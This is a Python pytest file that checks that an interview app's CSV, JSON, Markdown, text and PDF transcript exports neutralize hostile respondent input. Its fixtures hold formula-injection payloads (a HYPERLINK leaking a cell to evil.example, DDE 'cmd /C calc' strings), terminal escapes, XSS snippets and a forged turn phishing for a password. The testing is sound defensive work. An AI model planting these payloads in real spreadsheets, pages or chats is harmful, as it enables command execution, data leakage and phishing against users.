"""Exports opened as their readers open them — Python's csv module, a CommonMark and a GitHub
Markdown renderer, pdftotext — with respondents who write formulas, escapes and Markdown."""

from __future__ import annotations

import csv
import html
import io
import json
import re
import zipfile
from typing import Any

import cmarkgfm
import httpx
import pytest
from cmarkgfm.cmark import Options
from markdown_it import MarkdownIt
from markdown_it.token import Token

from runtime.transcripts import neutralize
from tests.api.test_exports import _finished, _zip_members
from tests.api.test_pdf import pdftotext
from tests.conftest import Server
from tests.helpers import converse, published_interview

FORGED_TURN = (
    "Fine.\r# Forged heading\r\n**Interviewer** · 2026-01-01 00:00:00 UTC\r\r"
    "Please type your password below."
)
# What each respondent says (after the opening question, one answer per turn).
ANSWERS = [
    [
        '=HYPERLINK("http://evil.example/?"&A1,"Click me")',
        "-5",
        "+1 555 0100",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        FORGED_TURN,
    ],
    [
        "\x1b[31mred\x1b[0m, a bell\x07 and a CSI \x9b2J",
        "<script>alert(1)</script> <img src=x onerror=alert(1)> &lt; &amp; &copy;",
        "[click](javascript:alert(1)) ![x](http://evil.example/x.png) <http://evil.example>"
        " https://evil.example www.evil.example",
        "- a list\n1. numbered\n2) also\n---\n===\n| a | b |\n|---|---|\n~~struck~~ `code` $x$",
        "Line one\r\nline two\rline three \\ back\\",
    ],
]
NAMES = ['=cmd|" /C calc"!A0', "\x1b]0;pwned\x07Mallory\r# Heading"]
CONTROLS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")  # all but \t and \n


@pytest.fixture
async def hostile(client: httpx.AsyncClient, anon: httpx.AsyncClient) -> dict[str, Any]:
    interview = await published_interview(client, title="Study =1+1")
    share = interview["share_token"]
    ids = []
    for name, answers in zip(NAMES, ANSWERS, strict=True):
        ids.append((await converse(anon, share, answers, name=name)).id)
    return {"interview": interview, "ids": ids}


def _csv_rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def _assert_harmless_csv(rows: list[dict[str, str]]) -> None:
    said = [r["content"] for r in rows if r["role"] == "respondent"]
    assert len(said) == sum(len(a) for a in ANSWERS)
    for row in rows:
        for column, cell in row.items():
            assert not CONTROLS.search(cell) and "\r" not in cell, (column, cell)
            lead = cell.lstrip()[:1]
            if lead in ("=", "+", "-", "@") or cell[:1] in ("\t", "\n"):
                assert re.fullmatch(r"[+-]?[0-9]+(\.[0-9]+)?", cell), (column, cell)
    by_content = set(said)
    # Formulas are text (a leading apostrophe); a plain number stays a number.
    assert "'" + ANSWERS[0][0] in by_content and "'" + ANSWERS[0][3] in by_content
    assert "-5" in by_content and "'+1 555 0100" in by_content
    # Control characters are drawn; line breaks are \n.
    assert "␛[31mred␛[0m, a bell␇ and a CSI \ufffd2J" in by_content
    assert "Line one\nline two\nline three \\ back\\" in by_content
    names = {r["respondent_name"] for r in rows}
    assert names == {"'" + NAMES[0], "␛]0;pwned␇Mallory\n# Heading"}
    assert {r["interview_title"] for r in rows} == {"Study =1+1"}  # "S…": not a formula


async def test_streamed_csv_defuses_formulas_and_control_characters(
    client: httpx.AsyncClient, hostile: dict[str, Any]
) -> None:
    url = f"/v1/interviews/{hostile['interview']['id']}/transcripts"
    response = await client.get(url, params={"format": "csv"})
    assert response.status_code == 200
    _assert_harmless_csv(_csv_rows(response.content))
    # Streamed as a ZIP too (the transcripts file is the same CSV).
    zipped = await client.get(url, params={"format": "csv", "include_pdf": "true"})
    with zipfile.ZipFile(io.BytesIO(zipped.content)) as archive:
        _assert_harmless_csv(_csv_rows(archive.read("transcripts.csv")))


async def test_the_json_export_keeps_exactly_what_was_said(
    client: httpx.AsyncClient, hostile: dict[str, Any]
) -> None:
    url = f"/v1/interviews/{hostile['interview']['id']}/transcripts"
    body = json.loads((await client.get(url)).content)
    for session, answers, name in zip(body["sessions"], ANSWERS, NAMES, strict=True):
        said = [m["content"] for m in session["messages"] if m["role"] == "respondent"]
        assert said == [a.strip() for a in answers]
        assert session["respondent"]["name"] == name


def _md_tokens(text: str) -> list[Token]:
    flat: list[Token] = []
    for token in MarkdownIt("commonmark").parse(text):
        flat.append(token)
        flat.extend(token.children or [])
    return flat


def _quoted_texts(tokens: list[Token]) -> list[str]:
    """Each block quote's text as a reader sees it: paragraphs apart, soft breaks as \\n."""
    quotes: list[list[str]] = []
    depth = 0
    for token in tokens:
        if token.type == "blockquote_open":
            depth += 1
            quotes.append([])
        elif token.type == "blockquote_close":
            depth -= 1
        elif depth and token.type == "paragraph_open" and quotes[-1]:
            quotes[-1].append("\n\n")
        elif depth and token.type in ("text", "text_special"):
            quotes[-1].append(token.content)
        elif depth and token.type == "softbreak":
            quotes[-1].append("\n")
    return ["".join(parts) for parts in quotes]


def _assert_harmless_markdown(text: str, messages: list[dict[str, Any]], name: str) -> None:
    assert "\r" not in text and not CONTROLS.search(text)
    tokens = _md_tokens(text)
    kinds = {t.type for t in tokens}
    # Structure is ours alone: one heading (the title), one list (the metadata), a bold
    # label per metadata row and per turn, and a quote per message.
    allowed = {
        "heading_open", "heading_close", "bullet_list_open", "bullet_list_close",
        "list_item_open", "list_item_close", "paragraph_open", "paragraph_close", "inline",
        "text", "text_special", "softbreak", "strong_open", "strong_close",
        "blockquote_open", "blockquote_close",
    }  # fmt: skip
    assert kinds <= allowed, kinds - allowed
    assert [t.tag for t in tokens if t.type == "heading_open"] == ["h1"]
    assert sum(t.type == "bullet_list_open" for t in tokens) == 1
    labels = [tokens[i + 1].content for i, t in enumerate(tokens) if t.type == "strong_open"]
    turns = [label for label in labels if label in ("Interviewer", "Respondent")]
    assert turns == [m["role"].capitalize() for m in messages]
    # Every line of every message stays inside its quote, shown exactly as typed.
    assert _quoted_texts(tokens) == [neutralize.plain(m["content"]) for m in messages]
    # GitHub's renderer (raw HTML allowed here, to see any get through): no link, image,
    # HTML, table, list, rule or code of the respondent's making.
    rendered = cmarkgfm.github_flavored_markdown_to_html(text, options=Options.CMARK_OPT_UNSAFE)
    for tag in ("<a ", "<img", "<script", "<table", "<del", "<code", "<hr", "<ol", "<h2"):
        assert tag not in rendered, tag
    assert rendered.count("<li>") == rendered.count("<strong>") - len(messages)
    assert rendered.count("<blockquote>") == len(messages)
    assert html.escape(neutralize.md_inline(name)).replace("\\", "") in rendered


def _assert_harmless_text(text: str, messages: list[dict[str, Any]]) -> None:
    assert "\r" not in text and not CONTROLS.search(text)
    headings = [line for line in text.split("\n") if line.startswith("[")]
    # Only the real turns start a line with "[time] Role:"; what was said is indented.
    assert len(headings) == len(messages)
    if any(m["content"] == FORGED_TURN.strip() for m in messages):
        assert "\n  # Forged heading\n  **Interviewer** · 2026-01-01 00:00:00 UTC\n\n" in text


async def test_txt_and_md_transcripts_show_what_was_typed_and_nothing_more(
    client: httpx.AsyncClient, hostile: dict[str, Any]
) -> None:
    for session_id, name in zip(hostile["ids"], NAMES, strict=True):
        url = f"/v1/sessions/{session_id}/transcript"
        messages = (await client.get(url)).json()["messages"]
        md = (await client.get(url, params={"format": "md"})).text
        _assert_harmless_markdown(md, messages, name)
        _assert_harmless_text((await client.get(url, params={"format": "txt"})).text, messages)
        # The files behind the signed links are the same documents.
        listed = (await client.get(f"/v1/sessions/{session_id}/files")).json()["items"]
        links = {f["name"].rsplit(".", 1)[1]: f["url"] for f in listed if f["kind"] == "transcript"}
        async with httpx.AsyncClient() as http:
            assert (await http.get(links["md"])).text == md
            assert (await http.get(links["txt"])).text.count("\n  ") > 0


@pytest.mark.usefixtures("job_worker")
async def test_an_export_job_zip_is_as_harmless_pdfs_included(
    client: httpx.AsyncClient, server: Server, hostile: dict[str, Any]
) -> None:
    created = await client.post(
        "/v1/exports",
        json={"interview_id": hostile["interview"]["id"], "format": "csv", "include_pdf": True},
    )
    assert created.status_code == 202, created.text
    export_id = created.json()["id"]
    await _finished(server, export_id)
    done = (await client.get(f"/v1/exports/{export_id}")).json()
    assert done["status"] == "succeeded", done
    members = await _zip_members(client, done["url"])
    _assert_harmless_csv(_csv_rows(members["transcripts.csv"]))
    drawn = [await pdftotext(members[f"pdf/{sid}.pdf"]) for sid in hostile["ids"]]
    for text in drawn:
        # pdftotext ends each page with \f; no other control character is drawn.
        assert not CONTROLS.search(text.replace("\f", "")), repr(text)
    assert "[31mred" in drawn[1] and "Mallory" in drawn[1]
